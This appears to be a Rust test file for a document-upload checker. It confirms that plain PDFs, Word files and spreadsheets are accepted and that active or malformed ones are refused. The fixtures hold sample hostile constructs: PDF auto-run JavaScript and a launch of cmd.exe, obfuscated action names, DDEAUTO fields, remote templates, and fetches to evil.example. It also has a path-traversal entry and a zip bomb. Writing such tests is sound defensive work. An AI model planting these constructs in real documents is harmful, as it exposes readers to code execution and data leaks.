//! Official files: what is taken, and what is refused.

#![allow(clippy::expect_used)]

mod common;

use common::{TYPESETTER, form};
use documents::{FormStyle, OfficialKind, OfficialProblem, check_official};
use rstest::rstest;
use std::io::{Cursor, Read, Write};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

fn docx() -> Vec<u8> {
    TYPESETTER.form_docx(&form("HQ-SH-01"), FormStyle::BLANK).expect("written")
}

/// The parts of an office file with some put in or replaced.
fn with(parts: &[(&str, &str)], base: &[u8]) -> Vec<u8> {
    let mut old = ZipArchive::new(Cursor::new(base)).expect("a zip archive");
    let mut new = ZipWriter::new(Cursor::new(Vec::new()));
    for index in 0..old.len() {
        let mut part = old.by_index(index).expect("a part");
        let name = part.name().to_owned();
        if parts.iter().any(|(other, _)| *other == name) {
            continue;
        }
        let mut content = Vec::new();
        part.read_to_end(&mut content).expect("read");
        new.start_file(name, SimpleFileOptions::default()).expect("started");
        new.write_all(&content).expect("written");
    }
    for (name, content) in parts {
        new.start_file(*name, SimpleFileOptions::default()).expect("started");
        new.write_all(content.as_bytes()).expect("written");
    }
    new.finish().expect("finished").into_inner()
}

fn xlsx() -> Vec<u8> {
    let mut file = ZipWriter::new(Cursor::new(Vec::new()));
    for name in ["[Content_Types].xml", "xl/workbook.xml", "_rels/.rels"] {
        file.start_file(name, SimpleFileOptions::default()).expect("started");
        file.write_all(b"<x/>").expect("written");
    }
    file.finish().expect("finished").into_inner()
}

/// A PDF of one page whose catalogue has this in it.
fn pdf(catalogue: &str) -> Vec<u8> {
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_owned(),
    ];
    let mut text = String::from("%PDF-1.4\n");
    let mut places = Vec::new();
    for (index, object) in objects.iter().enumerate() {
        places.push(text.len());
        text.push_str(&format!("{} 0 obj\n{object}\nendobj\n", index + 1));
    }
    let start = text.len();
    text.push_str("xref\n0 4\n0000000000 65535 f \n");
    for place in places {
        text.push_str(&format!("{place:010} 00000 n \n"));
    }
    text.push_str(&format!("trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n"));
    text.into_bytes()
}

#[test]
fn the_hall_s_own_files_would_be_taken() {
    let own = TYPESETTER.form_pdf(&form("HQ-SH-01"), FormStyle::SAMPLE).expect("typeset");
    assert_eq!(check_official(&own), Ok(OfficialKind::Pdf));
    assert_eq!(check_official(&docx()), Ok(OfficialKind::Docx));
    assert_eq!(check_official(&xlsx()), Ok(OfficialKind::Xlsx));
    assert_eq!(check_official(&pdf("")), Ok(OfficialKind::Pdf));
    // A link that the reader may click on.
    let link = "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.gov.cn) >> >>]";
    assert_eq!(check_official(&pdf(link)), Ok(OfficialKind::Pdf));
}

#[rstest]
#[case::script("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")]
#[case::hidden("/OpenAction << /S /J#61vaScript /J#53 (x) >>")]
#[case::names("/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (x) >>] >> >>")]
#[case::launch("/OpenAction << /S /Launch /F (cmd.exe) >>")]
#[case::opens_an_address("/OpenAction << /S /URI /URI (http://evil.example) >>")]
#[case::opens_then_more("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example) >> >>")]
#[case::attached("/Names << /EmbeddedFiles << /Names [] >> >>")]
#[case::on_events("/AA << /WC << /S /URI >> >>")]
#[case::xfa("/AcroForm << /XFA [] >>")]
fn a_pdf_that_acts_is_refused(#[case] catalogue: &str) {
    assert_eq!(check_official(&pdf(catalogue)), Err(OfficialProblem::Active));
}

#[rstest]
#[case::macros(&[("word/vbaProject.bin", "x")])]
#[case::embedded(&[("word/embeddings/oleObject1.bin", "x")])]
#[case::template(&[("word/_rels/settings.xml.rels", r#"<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>"#)])]
#[case::entities(&[("word/_rels/settings.xml.rels", "<!DOCTYPE x [<!ENTITY a \"b\">]><Relationships/>")])]
#[case::types(&[("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")])]
#[case::field(&[("word/document.xml", "<w:instrText>DDEAUTO c:\\cmd</w:instrText>")])]
#[case::field_in_pieces(&[("word/document.xml", "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>auto c:\\cmd</w:instrText></w:r></w:p>")])]
#[case::field_in_signs(&[("word/document.xml", "<w:p><w:instrText>&#68;DEAUTO c:\\cmd</w:instrText></w:p>")])]
#[case::field_in_header(&[("word/header1.xml", "<w:hdr><w:fldSimple w:instr=\" INCLUDEPICTURE http://evil.example/x.png \"/></w:hdr>")])]
fn an_office_file_that_acts_is_refused(#[case] parts: &[(&str, &str)]) {
    assert_eq!(check_official(&with(parts, &docx())), Err(OfficialProblem::Active));
}

#[rstest]
#[case::connections(&[("xl/connections.xml", "<connections/>")])]
#[case::query(&[("xl/queryTables/queryTable1.xml", "<queryTable/>")])]
#[case::fetching(&[("xl/worksheets/sheet1.xml", "<c><f>WEBSERVICE(&quot;http://evil.example&quot;)</f></c>")])]
fn a_workbook_that_fetches_is_refused(#[case] parts: &[(&str, &str)]) {
    assert_eq!(check_official(&with(parts, &xlsx())), Err(OfficialProblem::Active));
}

/// A document that opens at a certain page, and one with fields for page numbers.
#[test]
fn what_only_shows_a_place_is_taken() {
    for place in ["/OpenAction [3 0 R /Fit]", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"] {
        assert_eq!(check_official(&pdf(place)), Ok(OfficialKind::Pdf), "{place}");
    }
    let numbered = "<w:p><w:instrText>PAGE</w:instrText><w:fldSimple w:instr=\" NUMPAGES \"/></w:p>";
    assert_eq!(check_official(&with(&[("word/footer9.xml", numbered)], &docx())), Ok(OfficialKind::Docx));
}

#[test]
fn links_to_click_on_are_taken() {
    let rels = r#"<Relationships><Relationship Id="r1" Type="http://x/hyperlink" Target="http://a" TargetMode="External"/></Relationships>"#;
    assert_eq!(check_official(&with(&[("word/_rels/extra.xml.rels", rels)], &docx())), Ok(OfficialKind::Docx));
}

#[test]
fn what_is_no_such_file_is_refused() {
    use OfficialProblem::{Damaged, Empty, TooLarge, WrongKind};
    let own = TYPESETTER.form_pdf(&form("HQ-SH-01"), FormStyle::BLANK).expect("typeset");
    for (bytes, problem) in [
        (Vec::new(), Empty),
        (b"MZ\x90\x00".to_vec(), WrongKind),
        (b"<html>".to_vec(), WrongKind),
        (b"%PDF-1.7\nnothing else".to_vec(), Damaged),
        (b"PK\x03\x04nothing else".to_vec(), Damaged),
        (vec![b'%'; documents::LARGEST_OFFICIAL + 1], TooLarge),
        (own[..own.len() / 3].to_vec(), Damaged),
    ] {
        assert_eq!(check_official(&bytes), Err(problem), "{:?}", bytes.get(..12));
    }
    let without = with(&[("../evil.xml", "x")], &docx());
    assert_eq!(check_official(&without), Err(Damaged));
}

#[test]
fn a_file_that_unpacks_without_end_is_refused() {
    let bomb = " ".repeat(61 << 20);
    assert_eq!(check_official(&with(&[("word/big.xml", &bomb)], &docx())), Err(OfficialProblem::Damaged));
}
